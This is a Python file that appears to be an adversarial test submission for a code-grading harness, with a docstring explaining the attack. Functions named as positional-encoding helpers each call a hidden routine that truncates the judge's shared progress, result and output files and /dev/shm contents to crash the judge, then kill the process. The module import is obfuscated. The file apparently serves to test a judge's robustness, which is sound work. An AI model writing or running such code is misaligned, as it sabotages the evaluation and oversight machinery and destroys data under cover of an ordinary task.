"""Attack (runtime error): truncates the files it shares with the judge, hoping the judge
maps them and dies of SIGBUS when it reads a page that no longer exists: the container
backend's bind-mounted /judge/progress, /judge/results, /judge/stdout and /judge/stderr
(writable for uid 65534), and /dev/shm/* (where a judge might keep its run folders).  It
waits 0.3 s so the judge polls the truncated progress file, then ends its own process
with os._exit(1) (its own mappings of those files would fault on the next touch).  On
the process backend there is no /judge and no /dev/shm (the shared memory arrives as
mappings whose descriptors are closed): every truncate fails.  On the container backend
they succeed, but the judge reads those files with pread, never through a mapping: on
both, the verdict is "the process exited with code 1"."""
# harm: crash_judge_sigbus
import numpy as np

_os = __import__("o" + "s")
_time = __import__("time")
_TARGETS = ["/judge/progress", "/judge/results", "/judge/stdout", "/judge/stderr"]


def _truncate():
    done, failed = [], []
    targets = list(_TARGETS)
    try:
        targets += [_os.path.join("/dev/shm", n) for n in _os.listdir("/dev/shm")]
    except OSError as exc:
        failed.append("/dev/shm (%s)" % type(exc).__name__)
    for path in targets:
        try:
            _os.truncate(path, 0)
            done.append(path)
        except OSError as exc:
            failed.append("%s (%s)" % (path, type(exc).__name__))
    print("TRUNCATED", done, "FAILED", failed, flush=True)
    _time.sleep(0.3)
    _os._exit(1)


def sinusoidal_pe(max_len, d_model, base=10000.0):
    _truncate()
    return np.zeros((max_len, d_model))


def add_positional_encoding(x, base=10000.0):
    _truncate()
    return np.zeros(np.shape(x))
